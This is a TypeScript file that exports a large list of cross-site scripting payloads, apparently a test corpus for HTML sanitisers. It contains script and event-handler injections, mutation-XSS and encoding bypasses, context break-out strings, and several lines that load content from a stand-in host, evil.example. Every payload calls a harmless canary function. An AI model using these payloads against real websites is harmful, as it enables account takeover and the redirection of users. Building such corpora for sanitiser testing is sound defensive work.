const canary = 'executed()';

/** Elements that run something by themselves, in the manner of the public cheat sheets. */
const elements: readonly string[] = [
  `<script>${canary}</script>`,
  `<SCRIPT SRC="data:text/javascript,${canary}"></SCRIPT>`,
  `<script type=module>${canary}</script>`,
  `<scr<script>ipt>${canary}</scr</script>ipt>`,
  `<img src=x onerror=${canary}>`,
  `<img/src=x/onerror=${canary}>`,
  `<img src=x onerror="${canary}"//`,
  `<img srcset=x onerror=${canary}>`,
  `<image src=x onerror=${canary}>`,
  `<svg onload=${canary}>`,
  `<svg/onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><script href="data:text/javascript,${canary}"/></svg>`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${canary} /></svg>`,
  `<svg><a xlink:href="javascript:${canary}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${canary} /></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe onload=${canary}></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${canary}></mtext></math>`,
  `<math href="javascript:${canary}">x</math>`,
  `<iframe src="javascript:${canary}"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}</script>"></iframe>`,
  `<iframe onload=${canary}></iframe>`,
  `<object data="javascript:${canary}"></object>`,
  `<embed src="javascript:${canary}">`,
  `<video src=x onerror=${canary}></video>`,
  `<video><source onerror=${canary}></video>`,
  `<video poster=javascript:${canary}></video>`,
  `<audio src=x onerror=${canary}>`,
  `<body onload=${canary}>`,
  `<body background=javascript:${canary}>`,
  `<details open ontoggle=${canary}>x</details>`,
  `<marquee onstart=${canary}>x</marquee>`,
  `<input autofocus onfocus=${canary}>`,
  `<select autofocus onfocus=${canary}></select>`,
  `<textarea autofocus onfocus=${canary}></textarea>`,
  `<button autofocus onfocus=${canary}>x</button>`,
  `<a id=x tabindex=1 autofocus onfocus=${canary}>x</a>`,
  `<b contenteditable autofocus onfocus=${canary}>x</b>`,
  `<form action="javascript:${canary}"><button>x</button></form>`,
  `<form><button formaction="javascript:${canary}">x</button></form>`,
  `<isindex type=image src=1 onerror=${canary}>`,
  `<link rel=stylesheet href="javascript:${canary}">`,
  `<link rel=import href="data:text/html,<script>${canary}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style onload=${canary}></style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `<div style="width:expression(${canary})">x</div>`,
  `<div style="animation:x" onanimationstart=${canary}>x</div><style>@keyframes x{}</style>`,
  `<p style=content-visibility:auto oncontentvisibilityautostatechange=${canary}>x</p>`,
  `<table background="javascript:${canary}"><tr><td>x</table>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<template><script>${canary}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${canary}></template></div>`,
  `<portal src="https://evil.example/"></portal>`,
  `<dialog open onclose=${canary}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=x>x</button><b popover id=x onbeforetoggle=${canary}>x</b>`
];

/** Markup that a sanitiser's parser and the browser's read differently, so that what was cleaned is dirty again. */
const mutations: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${canary}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${canary}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${canary}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${canary}></style></annotation-xml></math>`,
  `<svg><desc><![CDATA[</desc><script>${canary}</script>]]></svg>`,
  `<title><a title="</title><img src=x onerror=${canary}>">`,
  `<xmp><p title="</xmp><svg/onload=${canary}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${canary}>">`,
  `<!--><img src=x onerror=${canary}>-->`,
  `<!--[if true]><img src=x onerror=${canary}><![endif]-->`,
  `<![CDATA[<img src=x onerror=${canary}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${canary}>`,
  `<img alt="\`><img src=x onerror=${canary}>\`">`,
  `<p id="&lt;img src=x onerror=${canary}&gt;">x</p>`,
  `&lt;img src=x onerror=${canary}&gt;`,
  `&amp;lt;script&amp;gt;${canary}&amp;lt;/script&amp;gt;`,
  `&#60;svg onload=${canary}&#62;`,
  `%3Cscript%3E${canary}%3C/script%3E`,
  `\\u003cimg src=x onerror=${canary}\\u003e`,
  `\\x3Cscript\\x3E${canary}\\x3C/script\\x3E`,
  `+ADw-script+AD4-${canary}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${canary}\uFF1C/script\uFF1E`,
  `<\u0000img src=x onerror=${canary}>`,
  `<img src=x onerror\u0000=${canary}>`,
  `<img src=x o\u0131nerror=${canary} \u017Frc=x>`,
  `<plaintext>`,
  `<frameset onload=${canary}>`
];

const handlers = (
  'onabort onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput ' +
  'onbeforepaste onbeforetoggle onblur oncancel oncanplay onchange onclick onclose oncontextmenu oncopy oncut ' +
  'ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop onended onerror onfocus onfocusin ' +
  'onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress ' +
  'onkeyup onload onloadeddata onloadedmetadata onloadend onloadstart onmessage onmousedown onmouseenter onmouseleave ' +
  'onmousemove onmouseout onmouseover onmouseup onmousewheel onpageshow onpaste onplay onplaying onpointerdown ' +
  'onpointerenter onpointermove onpointerover onpointerrawupdate onpointerup onpopstate onprogress onreset onresize ' +
  'onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectionchange onselectstart ' +
  'onslotchange onsubmit onsuspend ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection ' +
  'onvolumechange onwebkitanimationstart onwheel'
).split(' ');

/** What ends the place a text was put into by hand. */
const breakOuts = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '"/>',
  '-->',
  '*/',
  ']]>',
  '\\"',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '\u2028',
  '\n',
  ')]}',
  '";',
  "';",
  '${',
  '{{'
];

export const markup: readonly string[] = [
  ...elements,
  ...mutations,
  ...handlers.map(handler => `<b tabindex=0 autofocus style=animation:x ${handler}=${canary}>x</b>`),
  ...breakOuts.flatMap(end => [
    `${end}<svg onload=${canary}>`,
    `${end} onmouseover=${canary} autofocus onfocus=${canary} x=`,
    `${end};${canary}//`
  ])
];
